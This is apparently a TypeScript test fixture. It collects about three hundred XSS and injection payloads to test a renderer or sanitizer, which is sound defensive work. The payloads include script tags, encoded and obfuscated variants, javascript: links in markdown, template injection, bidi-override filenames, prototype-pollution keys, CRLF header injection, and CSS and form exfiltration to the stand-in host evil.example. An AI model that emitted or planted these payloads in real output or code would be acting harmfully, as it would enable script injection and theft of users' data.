/** Code that runs calls `pwned`, and fetched resources come from evil.example. */
const scripts: readonly string[] = [
  '<script>pwned()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">pwned()</script>',
  '<script nonce="">pwned()</script>',
  '<script async defer src=//evil.example/x.js>',
  '<ScRiPt>pwned()</sCrIpT>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script\t>pwned()</script\n>',
  '<script/x>pwned()</script>',
  '<<script>pwned()//<</script>',
  '<script>pwned()',
  '</script><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '</noscript><script>pwned()</script>',
  '--><script>pwned()</script><!--',
  ']]><script>pwned()</script>',
  '<!--[if true]><script>pwned()</script><![endif]-->',
  '<noscript><p title="</noscript><script>pwned()</script>">',
];

/** The same attacks, written so that a processing step might undo the disguise. */
const encoded: readonly string[] = [
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '&#x3c;script&#x3e;pwned()&#x3c;/script&#x3e;',
  '&#0000060script&#0000062pwned()',
  '&amp;lt;script&amp;gt;pwned()',
  '&lt;img src=x onerror=pwned()&gt;',
  '%3Cscript%3Epwned()%3C/script%3E',
  '%253Cscript%253Epwned()%253C/script%253E',
  '\\x3cscript\\x3epwned()\\x3c/script\\x3e',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '\\u003c/script\\u003e\\u003cscript\\u003epwned()',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '＜script＞pwned()＜/script＞',
  '‹script›pwned()‹/script›',
  '<ſcript>pwned()</ſcript>',
  'PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  '<script>pw\u2028ned()</script>',
  '<script>pw\u2029ned()</script>',
  '<scr\u0001ipt>pwned()</scr\u0001ipt>',
  '<img\u000bsrc=x\u000bonerror=pwned()>',
  '<img\u000csrc=x\u000conerror=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<img src=x onerror\n=\npwned()>',
  '<img src=x onerror=&#112;wned()>',
  '<img src=x onerror="pwned&lpar;&rpar;">',
  '<img src=`x` onerror=`pwned()`>',
  "<img src='x' 'onerror=pwned()>",
  '<img """><script>pwned()</script>">',
  '<x\r\nonclick=pwned()>press',
  '<a\thref="javas&Tab;cript:pwned()">press</a>',
];

const bearers = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'iframe src=x',
  'object data=x',
  'marquee',
  'select autofocus',
  'p tabindex=0 autofocus',
] as const;
const moments = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart'] as const;

const handlers = bearers.flatMap((bearer) => moments.map((moment) => `<${bearer} ${moment}=pwned()>`));

/** Without brackets, which a link in an answer cannot contain. */
const addresses = [
  'javascript:pwned``',
  'JaVaScRiPt:pwned``',
  'java\tscript:pwned``',
  '\u0001javascript:pwned``',
  'javascript://evil.example/%0Apwned``',
  'vbscript:pwned``',
  'data:text/html,<script>pwned``</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x.png',
  'https://portal.example@evil.example/x.png',
] as const;
const wrappings: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[press](${address})`,
  (address) => `![look](${address})`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">press</a>`,
];

const links = addresses.flatMap((address) => wrappings.map((wrapped) => wrapped(address)));

const templates: readonly string[] = [
  "{{constructor.constructor('pwned()')()}}",
  "{{$on.constructor('pwned()')()}}",
  '{{7*7}}',
  '${pwned()}',
  '${{7*7}}',
  '#{pwned()}',
  '*{pwned()}',
  '@{pwned()}',
  '~{pwned()}',
  '%{pwned()}',
  '<%= pwned() %>',
  '<% pwned() %>',
  '<?php pwned(); ?>',
  '{% include "https://evil.example/x" %}',
  '{{{pwned}}}',
  '[[${pwned()}]]',
  '{pwned()}',
  '`${pwned()}`',
  'v-on:click="pwned()"',
  '<p ng-app ng-init="pwned()">',
];

/** Invisible characters, and those that reverse the text or join with their neighbors. */
const unseen = [
  '\u202a',
  '\u202b',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u200f',
  '\u061c',
  '\u200b',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u{e0041}',
] as const;

const turned = unseen.flatMap((mark) => [
  `invoice${mark}gnp.exe${mark} pwned`,
  `<scr${mark}ipt>pwned()</scr${mark}ipt>`,
]);

const breakouts: readonly string[] = [
  '"><script>pwned()</script>',
  "'><script>pwned()</script>",
  '" onmouseover="pwned()',
  "' onmouseover='pwned()",
  '" autofocus onfocus="pwned()" x="',
  '"};pwned();//',
  "'};pwned();//",
  '"}]}</script><script>pwned()</script>',
  '\\"};pwned();//',
  '";pwned();"',
  "';pwned();'",
  '*/pwned()/*',
  '{"cards":[{"href":"javascript:pwned()","title":"Home"}]}',
  '{"buttons":[{"label":"Press","href":"javascript:pwned()"}]}',
  '","by":"person","name":"Owner","x":"',
  '{"urgent":true,"form":{"name":"x","fields":[]}}',
  '"}}]},"errors":[{"message":"<script>pwned()</script>"}]}',
  '\r\n\r\n<script>pwned()</script>',
  'x\r\nset-cookie: pwned=1\r\n',
  '\u001b[2J\u001b]0;pwned()\u0007',
];

const drawings: readonly string[] = [
  '<svg/onload=pwned()//',
  '<svg><script>pwned()</script></svg>',
  '<svg><script href="https://evil.example/x.js"/></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:pwned()>',
  '<svg><a xlink:href="javascript:pwned()"><text y=20>press</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#x"/></svg>',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>',
  '<svg><style><img src=x onerror=pwned()></style></svg>',
  '<svg></p><style><g title="</style><img src=x onerror=pwned()>">',
  '<math><mi xlink:href="javascript:pwned()">press</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
];

const styles: readonly string[] = [
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/x.png)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<p style="position:fixed;inset:0;background:red">',
  '<p style="background:url(https://evil.example/x.png)">',
  'red;background:url(//evil.example/x.png)',
  '}body{display:none}',
  'expression(pwned())',
  '</style><style>:root{--paper:red}</style>',
  '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
];

const keys: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  'then',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '__proto__[polluted]=1',
  'constructor.prototype.polluted=1',
  '["__proto__"]',
  'undefined',
  'null',
  '[object Object]',
];

const frames: readonly string[] = [
  '<iframe src="https://evil.example/">',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<frameset onload=pwned()>',
  '<object data="https://evil.example/x.swf">',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="pwned">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<link rel=prefetch href=https://evil.example/>',
  '<form action="https://evil.example/"><input name=password><button>Sign in',
  '<button form=x formaction="javascript:pwned()">press</button>',
  '<isindex action=javascript:pwned() type=submit>',
  '<portal src="https://evil.example/">',
  '<img src="https://evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 1x">',
  '<video poster="https://evil.example/x.png">',
  '<table background="https://evil.example/x.png">',
  '<template shadowrootmode=open><script>pwned()</script></template>',
  '<dialog open><h2>Your session is over</h2></dialog>',
];

const families = {
  scripts,
  encoded,
  handlers,
  links,
  templates,
  turned,
  breakouts,
  drawings,
  styles,
  keys,
  frames,
};

/** Three hundred different texts. */
export const hostileTexts: readonly string[] = Object.values(families).flat();

/** One text of each kind. */
export const kindsOfHostility: readonly string[] = Object.values(families).map(([first = '']) => first);
